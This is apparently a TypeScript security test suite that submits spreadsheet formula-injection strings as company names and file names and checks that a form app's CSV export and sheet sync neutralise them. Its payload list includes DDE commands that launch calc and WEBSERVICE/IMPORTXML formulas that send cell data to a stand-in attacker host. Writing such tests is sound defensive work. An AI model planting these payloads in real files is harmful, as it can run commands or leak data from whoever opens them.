/** Text that a spreadsheet would run: harmless in the export, and as it was sent in the sheet. */
import {setTimeout as pause} from 'node:timers/promises';
import {csvRow} from '../../../../src/server/cli/csv';
import {forms} from '../../setup/command';
import {parseCsv} from '../../setup/csv';
import {FORMULAS, SPLITS, liveFormulas} from '../../setup/formulas';
import {startSheets} from '../../setup/sheets';
import {apart} from '../beside';
import type {Attack, Target} from '../case';
import {kept} from '../judge';
import {FILE, apply, enquiry, fields, parts, post} from '../requests';
import {exchange, type Answer} from '../wire';

const PROGRAMS = [
  '=DDE("cmd";"/C calc";"x")',
  '=WEBSERVICE("https://evil.example/"&A1)',
  '=IMPORTXML(CONCAT("https://evil.example/?",A1:Z9),"//a")',
  "+cmd|' /C calc'!A0",
  "-cmd|' /C calc'!A0",
  "@cmd|' /C calc'!A0",
  '"=1+1"',
  "x;@SUM(1+1)*cmd|' /C calc'!A0;y",
  'x\t-2+3',
  'x"";=1+1',
];

const TEXTS = [...new Set([...FORMULAS, ...SPLITS, ...PROGRAMS])];

const FILE_NAMES = [
  '=1+1.pdf',
  "=cmd|'C calc'!A0.pdf",
  '+1.pdf',
  '-1.pdf',
  '@SUM(1).pdf',
  'x;=1+1;y.pdf',
  'x\t=1+1.pdf',
  'x,=1+1.pdf',
  '\uff1d1+1.pdf',
];

/** What became of it in the export; nothing was kept of what no form can have sent. */
async function exported(target: Target, answer: Answer | undefined): Promise<string | undefined> {
  if (answer && [400, 413, 422].includes(answer.status)) return undefined;
  if (answer?.status !== 200) return `answered ${answer?.status ?? 'nothing'}`;
  const {id} = JSON.parse(answer.body) as {id: string};
  const submission = await target.store.find(id);
  if (!submission) return 'it is not kept';
  const [live] = liveFormulas(csvRow(submission));
  return live === undefined ? undefined : `a piece of its line is ${JSON.stringify(live)}`;
}

const companies = TEXTS.map((companyName): Attack => ({
  name: `the company ${JSON.stringify(companyName)} is no formula in the export`,
  run: async (target) =>
    exported(target, (await exchange(target.port, post([], enquiry({companyName}))))[0]),
}));

const fileNames = FILE_NAMES.map((filename): Attack => ({
  name: `the file name ${JSON.stringify(filename)} is no formula in the export`,
  run: async (target) => {
    const [answer] = await exchange(target.port, apply(parts([...fields(), {...FILE, filename}])));
    return exported(target, answer);
  },
}));

const whole: Attack = {
  name: 'the whole export, by the command itself, has every submission and no formula',
  async run(target) {
    const before = await kept(target);
    const {code, out, error} = await forms(['export', '--csv'], target.settings);
    if (code !== 0) return error;
    const rows = parseCsv(out.replace('\uFEFF', ''));
    if (rows.length !== before) return `${rows.length} rows for ${before} submissions`;
    const [live] = liveFormulas(out);
    return live === undefined ? undefined : `a piece of a line is ${JSON.stringify(live)}`;
  },
};

const sheet: Attack = {
  name: 'in the sheet every text stands as it was sent, and is never entered as if typed',
  async run(target) {
    const sheets = await startSheets();
    try {
      return await apart(target, sheets.env, async ({port}) => {
        const sent: string[] = [];
        for (const companyName of TEXTS) {
          const [answer] = await exchange(port, post([], enquiry({companyName})));
          if (answer?.status === 200) sent.push(companyName.trim());
        }
        const begun = performance.now();
        // The first row has the headings.
        const isThere = () => sheets.rows.length > sent.length;
        while (!isThere() && performance.now() - begun < 20_000) await pause(50);
        const cells = sheets.rows.flat();
        const missing = sent.filter((text) => !cells.includes(text));
        return missing.length === 0 ? undefined : `not there: ${JSON.stringify(missing)}`;
      });
    } finally {
      await sheets.stop();
    }
  },
};

export const SPREADSHEETS: readonly Attack[] = [...companies, ...fileNames, whole, sheet];
